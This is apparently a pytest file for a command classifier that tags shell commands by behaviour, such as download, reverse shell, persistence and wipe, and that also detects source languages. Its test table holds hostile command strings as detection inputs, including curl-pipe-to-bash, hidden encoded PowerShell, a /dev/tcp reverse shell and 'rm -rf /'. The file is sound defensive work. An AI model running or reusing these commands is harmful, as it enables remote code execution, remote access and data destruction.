"""Tables are data; these tests hold their rules."""

from pathlib import Path

import pytest

from darnel.features.languages import lexicon
from darnel.features.languages.commands import classify, rules
from darnel.features.languages.registry import Language, language_for
from darnel.features.taxonomy import CATEGORY


def test_exact_beats_below_beats_tail(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "toy.toml").write_text(
        '[calls]\n"net.send" = ["web.post", ".post"]\n"net.request" = ["web.*"]\n"file.read" = ["web.post"]\n'
        '[to_hook]\nopened = ["open"]\n'
    )
    monkeypatch.setattr(lexicon, "FOLDER", tmp_path)
    calls = lexicon.load.__wrapped__("toy")["calls"]
    assert calls.get("web.post") == (("net.send", "file.read"), "web.post")
    assert calls.get("web.deep.other") == (("net.request",), "web.*")
    assert calls.get("thing.post") == (("net.send",), ".post")
    assert calls.get(".post") == (("net.send",), ".post")
    assert calls.get("post") == ((), "")
    assert calls.get("nothing.known") == ((), "")
    assert lexicon.load.__wrapped__("toy")["to_hook"].get("open") == (("opened",), "open")
    assert lexicon.load.__wrapped__("toy")["absent"].get("open") == ((), "")


def test_ids_outside_the_taxonomy_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "toy.toml").write_text('[calls]\n"net.sned" = ["web.post"]\n')
    monkeypatch.setattr(lexicon, "FOLDER", tmp_path)
    with pytest.raises(ValueError, match=r"toy\.toml \[calls\]: 'net\.sned' is not in the taxonomy"):
        lexicon.load.__wrapped__("toy")


def test_every_rule_of_commands_is_in_the_taxonomy() -> None:
    assert {behaviour for behaviour, _ in rules()} <= set(CATEGORY)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl -s https://example.invalid/x | bash", {"spawn.piped", "spawn.download"}),
        ("wget -qO- https://example.invalid/x|python3 -", {"spawn.piped", "spawn.download"}),
        ('bash -c "$(curl -fsSL https://example.invalid/x)"', {"spawn.piped", "spawn.shell"}),
        ("powershell -w hidden -enc " + "QQBB" * 20, {"spawn.interpreter", "spawn.hidden", "decode.text"}),
        ("powershell iex (iwr https://example.invalid/x)", {"spawn.piped", "spawn.interpreter"}),
        ("mshta https://example.invalid/x.hta", {"spawn.interpreter"}),
        ("certutil -urlcache -split -f https://example.invalid/x x.exe", {"spawn.download"}),
        ("python -m pip install example", {"spawn.packager"}),
        ("pip3 install --user example", {"spawn.packager"}),
        ("npm i example", {"spawn.packager"}),
        ("bun run x.js", set()),
        ("python -c import_something", {"spawn.interpreter"}),
        ("node -e 'x()'", {"spawn.interpreter"}),
        ("nohup ./x > /dev/null 2>&1 &", {"spawn.hidden", "hide.silence"}),
        ("crontab -l", {"persist.scheduler"}),
        ("schtasks /create /tn x /tr y", {"persist.scheduler"}),
        (r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x", {"persist.startup"}),
        ("chmod +x /tmp/x", {"file.executable"}),
        ("chmod 755 x", {"file.executable"}),
        ("launchctl load x.plist", {"persist.scheduler"}),
        ("systemctl enable x", {"persist.scheduler"}),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", {"spawn.reverse"}),
        ("rm -rf / ", {"destroy.wipe", "file.delete"}),
        ("rm -rf ~/", {"destroy.wipe", "file.delete"}),
        ("rm -rf $HOME/*", {"destroy.wipe", "file.delete"}),
        ("whoami", {"host.identity"}),
        ("npm publish", {"spread.publish"}),
        ("git rev-parse HEAD", set()),
        ("gcc -shared -o x.so x.c", set()),
        ("chmod 644 x", set()),
    ],
)
def test_commands(command: str, expected: set[str]) -> None:
    found = set(classify(command))
    assert expected <= found
    assert expected or not found


@pytest.mark.parametrize("path", ["/var/lib/apt/lists/*", "/tmp/x", "~/.cache/x", "$HOME/x", "./build", "*.o"])
def test_deleting_a_folder_is_no_wiping(path: str) -> None:
    assert classify(f"rm -rf {path}") == ("file.delete",)


def test_commands_are_linear_on_hostile_text() -> None:
    import time

    for text in (
        "curl " * 100_000,
        "a" * 1_000_000,
        "rm -" * 50_000,
        "pip " + "x " * 100_000,
        "python " + "-a " * 100_000,
    ):
        start = time.perf_counter()
        classify(text)
        assert time.perf_counter() - start < 2


def test_of_javascript_each_name_has_one_rule() -> None:
    rules = lexicon.load("javascript")["to_rule"]
    doubled = [name for names in (rules.exact, rules.below, rules.tails) for name, ids in names.items() if ids[1:]]
    assert doubled == []


def test_language_by_suffix_and_shebang() -> None:
    def named(path: str, data: bytes = b"") -> str:
        language = language_for(path, data)
        return language.name if isinstance(language, Language) else ""

    assert named("a/README.txt", b"import os\n") == ""
    assert named("a/image.png", b"\x89PNG") == ""
    assert named("a/.hidden") == ""
    assert named("a/noname", b"") == ""


def test_a_document_that_went_through_an_obfuscator_is_code() -> None:
    code = b"(function(){" + b"var _0x3fa36e=1;" * 12 + b"})()"
    found = language_for("README.md", code)
    assert found is not None
    assert found.name == "javascript"
    assert language_for("README.md", b"an obfuscated function has names such as _0x3fa36e") is None
    assert language_for("data.json", code) is None
